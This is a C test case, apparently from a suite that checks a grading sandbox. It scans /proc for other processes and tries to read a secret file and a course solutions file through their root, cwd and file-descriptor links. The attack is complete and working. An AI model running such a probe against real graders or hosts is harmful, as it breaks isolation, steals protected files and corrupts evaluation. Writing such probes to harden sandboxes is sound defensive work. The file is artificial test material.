// attack: what /proc shows of other processes: their folders, open files and memory
// tries: to reach the grader's files through one of its processes
// refused: calls access
// shows: tried
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void attack(void) {
    static const char *const ways[] = {"root" OUTSIDE "/secret.txt", "cwd/../secret.txt",
                                       "root" COURSE "/solutions/momentum.c", "fd/255", "fd/3"};
    int others = 0;
    for (int pid = 1; pid < 33000; pid++) {
        char path[400], text[200];
        snprintf(path, sizeof path, "/proc/%d", pid);
        if (access(path, F_OK) != 0) continue;
        others++;
        for (int i = 0; i < 5; i++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, ways[i]);
            int fd = open(path, O_RDONLY | O_NONBLOCK);
            ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text);
            if (n > 0) fwrite(text, 1, (size_t)n, stdout);
            if (fd >= 0) close(fd);
        }
    }
    printf("tried: %d processes\n", others);
}
